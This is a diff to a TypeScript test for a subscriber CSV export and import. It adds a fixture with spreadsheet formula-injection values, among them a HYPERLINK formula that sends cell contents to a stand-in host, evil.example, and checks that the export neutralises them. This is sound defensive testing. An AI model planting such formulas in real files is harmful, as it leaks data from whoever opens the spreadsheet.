@@ -1,4 +1,4 @@
-import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { insertSubscriber, iterateSubscribers, type Subscriber } from '@digest/db';
@@ -246,6 +246,14 @@ describe('subscribers import and export', () => {
       keywords: ['large language models'],
       consent_source: 'api',
     });
+    // Cells a spreadsheet would run as formulas, and one that really starts with a quote.
+    await insertSubscriber(database.db, {
+      email: 'formula@example.org',
+      status: 'active',
+      keywords: ['=1+2', "'@x", '-cmd'],
+      consent_source: 'form',
+      consent_user_agent: '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+    });
     for (const status of ['unsubscribed', 'bounced', 'complained', 'pending'] as const) {
       await insertSubscriber(database.db, {
         email: `${status}@example.org`,
@@ -257,18 +265,22 @@ describe('subscribers import and export', () => {
 
     const exported = join(scratch, 'export.csv');
     const output = captureIo();
-    expect(await exportSubscribers({ db: database.db }, { file: exported }, output.io)).toBe(6);
-    expect(output.stdout()).toBe(`exported 6 subscribers to ${exported}\n`);
+    expect(await exportSubscribers({ db: database.db }, { file: exported }, output.io)).toBe(7);
+    expect(output.stdout()).toBe(`exported 7 subscribers to ${exported}\n`);
+    const text = await readFile(exported, 'utf8');
+    expect(text).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
+    expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/`);
+    expect(text).toContain(`,'=1+2;'@x;-cmd,`);
 
     const target = await createTestDatabase();
     try {
       const result = await importFile(exported, target.db);
-      expect(result).toMatchObject({ imported: 6, alreadyKnown: 0, rejected: 0, ignoredColumns: [] });
+      expect(result).toMatchObject({ imported: 7, alreadyKnown: 0, rejected: 0, ignoredColumns: [] });
       expect((await allSubscribers(target.db)).map(fields)).toEqual((await allSubscribers()).map(fields));
       // Importing the same export again changes nothing.
       expect(await importFile(exported, target.db)).toMatchObject({
         imported: 0,
-        alreadyKnown: 6,
+        alreadyKnown: 7,
         suppressed: 0,
       });
     } finally {
